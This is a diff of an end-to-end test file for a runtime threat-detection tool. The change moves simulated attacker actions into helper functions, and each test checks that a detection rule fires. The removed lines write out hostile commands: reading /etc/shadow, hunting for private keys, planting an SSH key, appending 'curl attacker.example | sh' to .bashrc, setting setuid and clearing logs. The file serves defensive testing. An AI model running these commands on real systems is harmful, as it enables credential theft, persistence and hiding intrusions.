@@ -5,21 +5,20 @@
 import { after, before, describe, test } from 'node:test'
 import assert from 'node:assert/strict'
 import { spawnSync } from 'node:child_process'
-import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { DEFAULT_CONFIG_ARGS, SAKER_BIN, ROOT, Saker, type Alert, prog, skipReason, wiringProblem } from './helpers.js'
+import {
+  appendAuthorizedKey, appendShellRc, clearLog, execFromMemfd, hardlinkShadow, loadKernelModuleInContainer, ptraceAttach,
+  readShadow, runFromDevShm, searchPrivateKeys, setSetuidBit, symlinkShadow,
+} from './attacks.js'
+import { DEFAULT_CONFIG_ARGS, SAKER_BIN, ROOT, Saker, type Alert, skipReason, wiringProblem } from './helpers.js'
 
 let skip = skipReason({ falcoRules: false })
 if (skip === null) {
   const probe = spawnSync(process.execPath, [SAKER_BIN, ...DEFAULT_CONFIG_ARGS, '-o', 'webserver.enabled=false', '-M', '1'],
     { cwd: ROOT, encoding: 'utf8', timeout: 120_000 })
   skip = wiringProblem(probe.stderr ?? '')
-}
-
-function run(cmd: string, args: string[], input?: string): void {
-  const r = spawnSync(cmd, args, { encoding: 'utf8', input })
-  if (r.error) throw r.error
 }
 
 const f = (a: Alert, k: string): unknown => a.output_fields[k]
@@ -43,7 +42,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('reading /etc/shadow: Credential File Read by Untrusted Program', async () => {
-    run('cat', ['/etc/shadow'])
+    readShadow()
     const a = await saker.alert('Credential File Read by Untrusted Program', a => f(a, 'proc.name') === 'cat')
     assert.equal(f(a, 'proc.cmdline'), 'cat /etc/shadow')
     assert.equal(f(a, 'fd.name'), '/etc/shadow')
@@ -54,7 +53,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('searching for private keys: Search for Private Keys or Cloud Credentials', async () => {
-    run('find', ['/', '-maxdepth', '3', '-name', 'id_rsa'])
+    searchPrivateKeys()
     const a = await saker.alert('Search for Private Keys or Cloud Credentials', a => f(a, 'proc.name') === 'find')
     assert.equal(f(a, 'proc.cmdline'), 'find / -maxdepth 3 -name id_rsa')
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -62,8 +61,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('a symlink to /etc/shadow: Link to Sensitive File Created', async () => {
-    const link = join(work, 'shadow-sym')
-    run('ln', ['-s', '/etc/shadow', link])
+    const link = symlinkShadow(work)
     const a = await saker.alert('Link to Sensitive File Created', a => f(a, 'evt.type') === 'symlinkat')
     assert.equal(f(a, 'proc.cmdline'), `ln -s /etc/shadow ${link}`)
     assert.equal(f(a, 'fs.path.target'), '/etc/shadow')
@@ -71,8 +69,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('a hardlink to /etc/shadow: Link to Sensitive File Created', async () => {
-    const link = join(work, 'shadow-hard')
-    run('ln', ['/etc/shadow', link])
+    const link = hardlinkShadow(work)
     const a = await saker.alert('Link to Sensitive File Created', a => f(a, 'evt.type') === 'linkat')
     assert.equal(f(a, 'proc.cmdline'), `ln /etc/shadow ${link}`)
     assert.equal(f(a, 'fs.path.target'), '/etc/shadow')
@@ -80,13 +77,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('running a binary from /dev/shm: Program Run from Memory or Shared Memory', async () => {
-    const bin = `/dev/shm/e2e-default-${process.pid}`
-    copyFileSync('/bin/true', bin)
-    try {
-      run(bin, [])
-    } finally {
-      rmSync(bin, { force: true })
-    }
+    const bin = runFromDevShm(`e2e-default-${process.pid}`)
     const a = await saker.alert('Program Run from Memory or Shared Memory', a => f(a, 'proc.exepath') === bin)
     assert.equal(f(a, 'proc.is_exe_from_memfd'), false)
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -94,7 +85,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('executing a program from a memfd: Program Run from Memory or Shared Memory', async () => {
-    run(prog('memfd_exec'), ['/bin/true'])
+    execFromMemfd()
     const a = await saker.alert('Program Run from Memory or Shared Memory', a => f(a, 'proc.is_exe_from_memfd') === true)
     assert.match(String(f(a, 'proc.exepath')), /^\/?memfd:saker-e2e/)
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -102,7 +93,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('attaching ptrace to a process: Ptrace Attach or Memory Injection', async () => {
-    run(prog('ptrace_attach'), [])
+    ptraceAttach()
     const a = await saker.alert('Ptrace Attach or Memory Injection', a => f(a, 'proc.name') === 'ptrace_attach')
     assert.match(String(f(a, 'evt.arg.request')), /PTRACE_ATTACH/)
     assert.equal(f(a, 'evt.type'), 'ptrace')
@@ -110,9 +101,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('setting the setuid bit: Setuid or Setgid Bit Set on File', async () => {
-    const file = join(work, 'suid')
-    writeFileSync(file, '')
-    run('chmod', ['u+s', file])
+    const file = setSetuidBit(work)
     const a = await saker.alert('Setuid or Setgid Bit Set on File', a => f(a, 'proc.name') === 'chmod')
     assert.equal(f(a, 'proc.cmdline'), `chmod u+s ${file}`)
     assert.equal(f(a, 'fs.path.name'), file)
@@ -121,9 +110,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('appending a key to ~/.ssh/authorized_keys: SSH Authorized Keys or Server Configuration Modified', async () => {
-    mkdirSync(join(home, '.ssh'), { recursive: true })
-    const keys = join(home, '.ssh', 'authorized_keys')
-    run('tee', ['-a', keys], 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e2e2e2e attacker\n')
+    const keys = appendAuthorizedKey(home)
     const a = await saker.alert('SSH Authorized Keys or Server Configuration Modified', a => f(a, 'fd.name') === keys)
     assert.equal(f(a, 'proc.cmdline'), `tee -a ${keys}`)
     assert.equal(f(a, 'evt.type'), 'openat')
@@ -131,8 +118,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('writing to a shell configuration file: Shell Startup File Modified', async () => {
-    const rc = join(home, '.bashrc')
-    run('tee', ['-a', rc], 'curl -s http://attacker.example/x | sh\n')
+    const rc = appendShellRc(home)
     const a = await saker.alert('Shell Startup File Modified', a => f(a, 'fd.name') === rc)
     assert.equal(f(a, 'proc.name'), 'tee')
     assert.equal(f(a, 'proc.pname'), 'node')
@@ -140,14 +126,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('loading a kernel module (the attempt, from a container): Kernel Module Load Attempt', async () => {
-    const id = 'e2d'.padEnd(64, 'b')
-    const cg = existsSync('/sys/fs/cgroup/pids') ? `/sys/fs/cgroup/pids/docker/${id}` : `/sys/fs/cgroup/docker/${id}`
-    mkdirSync(cg, { recursive: true })
-    try {
-      run('sh', ['-c', `echo $$ > ${cg}/cgroup.procs && exec ${prog('init_module_junk')}`])
-    } finally {
-      spawnSync('rmdir', [cg])
-    }
+    loadKernelModuleInContainer('e2d')
     const a = await saker.alert('Kernel Module Load Attempt', a => f(a, 'proc.name') === 'init_module_jun')
     assert.equal(f(a, 'evt.type'), 'init_module')
     assert.notEqual(f(a, 'container.id'), 'host')
@@ -155,12 +134,7 @@ describe('make run\'s default rules see each attacker action', { skip: skip ?? f
   })
 
   test('clearing a log file: System Log File Cleared or Removed', async () => {
-    const logFile = `/var/log/saker-e2e-default-${process.pid}.log`
-    try {
-      run('sh', ['-c', `echo entry >> ${logFile}; : > ${logFile}`])
-    } finally {
-      rmSync(logFile, { force: true })
-    }
+    const logFile = clearLog(`saker-e2e-default-${process.pid}`)
     const a = await saker.alert('System Log File Cleared or Removed', a => f(a, 'fd.name') === logFile)
     assert.equal(f(a, 'proc.name'), 'sh')
     assert.match(String(f(a, 'evt.arg.flags')), /O_TRUNC/)
